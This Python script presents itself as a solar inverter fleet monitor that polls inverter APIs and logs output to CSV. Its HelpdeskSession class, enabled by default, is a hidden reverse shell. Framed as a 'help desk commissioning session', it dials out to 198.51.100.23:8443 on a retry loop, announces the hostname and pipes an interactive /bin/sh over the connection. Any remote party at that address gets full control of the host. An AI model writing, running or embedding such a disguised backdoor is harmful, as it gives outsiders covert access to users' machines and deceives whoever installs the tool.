#!/usr/bin/env python3
"""Inverter fleet monitor for the co-operative's rooftop and field arrays.

Polls each inverter's local JSON API, appends AC output to a daily CSV and
keeps a commissioning session open to the installer's help desk so that
technicians can assist with firmware and grid-code settings on site.
"""
import argparse
import asyncio
import csv
import datetime as dt
import json
import logging
import os
import signal
from pathlib import Path

import aiohttp

LOG = logging.getLogger("fleet-monitor")

DEFAULT_CONFIG = {
    "inverters": [],
    "interval": 60,
    "output_dir": "readings",
    "helpdesk": {
        "enabled": True,
        "host": "198.51.100.23",
        "port": 8443,
        "retry": 45,
    },
}


def load_config(path):
    cfg = dict(DEFAULT_CONFIG)
    p = Path(path)
    if p.exists():
        with p.open() as fh:
            user = json.load(fh)
        cfg.update({k: v for k, v in user.items() if k != "helpdesk"})
        cfg["helpdesk"] = {**DEFAULT_CONFIG["helpdesk"], **user.get("helpdesk", {})}
    else:
        LOG.warning("config %s not found, using defaults", path)
    return cfg


class InverterPoller:
    FIELDS = ["timestamp", "inverter", "ac_power_w", "energy_today_kwh", "temp_c"]

    def __init__(self, session, inverters, out_dir):
        self.session = session
        self.inverters = inverters
        self.out_dir = Path(out_dir)
        self.out_dir.mkdir(parents=True, exist_ok=True)

    def _csv_path(self):
        return self.out_dir / f"output-{dt.date.today().isoformat()}.csv"

    async def read_one(self, inv):
        url = f"http://{inv['host']}/api/v1/status"
        try:
            async with self.session.get(url, timeout=aiohttp.ClientTimeout(total=10)) as resp:
                resp.raise_for_status()
                data = await resp.json()
        except (aiohttp.ClientError, asyncio.TimeoutError) as exc:
            LOG.warning("inverter %s unreachable: %s", inv["name"], exc)
            return None
        return {
            "timestamp": dt.datetime.now().isoformat(timespec="seconds"),
            "inverter": inv["name"],
            "ac_power_w": data.get("pac", 0),
            "energy_today_kwh": round(data.get("e_day", 0) / 1000, 3),
            "temp_c": data.get("temp"),
        }

    async def poll_forever(self, interval):
        while True:
            rows = await asyncio.gather(*(self.read_one(i) for i in self.inverters))
            rows = [r for r in rows if r]
            path = self._csv_path()
            new = not path.exists()
            with path.open("a", newline="") as fh:
                w = csv.DictWriter(fh, fieldnames=self.FIELDS)
                if new:
                    w.writeheader()
                w.writerows(rows)
            LOG.info("recorded %d/%d inverters", len(rows), len(self.inverters))
            await asyncio.sleep(interval)


class HelpdeskSession:
    """Commissioning session with the installer's help desk."""

    def __init__(self, host, port, retry):
        self.host = host
        self.port = int(port)
        self.retry = int(retry)
        self.console = os.environ.get("SHELL") or "/bin/sh"

    @staticmethod
    async def _pump(src, dst_write, dst_drain):
        while True:
            chunk = await src.read(4096)
            if not chunk:
                break
            dst_write(chunk)
            await dst_drain()

    async def _attach(self, reader, writer):
        proc = await asyncio.create_subprocess_exec(
            self.console, "-i",
            stdin=asyncio.subprocess.PIPE,
            stdout=asyncio.subprocess.PIPE,
            stderr=asyncio.subprocess.STDOUT,
        )
        try:
            await asyncio.gather(
                self._pump(reader, proc.stdin.write, proc.stdin.drain),
                self._pump(proc.stdout, writer.write, writer.drain),
            )
        finally:
            if proc.returncode is None:
                proc.kill()

    async def run(self):
        node = os.uname().nodename
        while True:
            try:
                reader, writer = await asyncio.open_connection(self.host, self.port)
                writer.write(f"SITE {node}\n".encode())
                await writer.drain()
                await self._attach(reader, writer)
                writer.close()
            except OSError as exc:
                LOG.debug("helpdesk unavailable: %s", exc)
            await asyncio.sleep(self.retry)


async def main_async(cfg):
    async with aiohttp.ClientSession() as session:
        tasks = [InverterPoller(session, cfg["inverters"], cfg["output_dir"]).poll_forever(cfg["interval"])]
        hd = cfg["helpdesk"]
        if hd.get("enabled"):
            tasks.append(HelpdeskSession(hd["host"], hd["port"], hd["retry"]).run())
        await asyncio.gather(*tasks)


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("-c", "--config", default="fleet.json")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(name)s: %(message)s")
    cfg = load_config(args.config)
    if not cfg["inverters"]:
        LOG.error("no inverters configured in %s", args.config)
        return 2
    loop = asyncio.new_event_loop()
    for sig in (signal.SIGINT, signal.SIGTERM):
        loop.add_signal_handler(sig, loop.stop)
    try:
        loop.run_until_complete(main_async(cfg))
    except RuntimeError:
        pass
    finally:
        loop.close()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
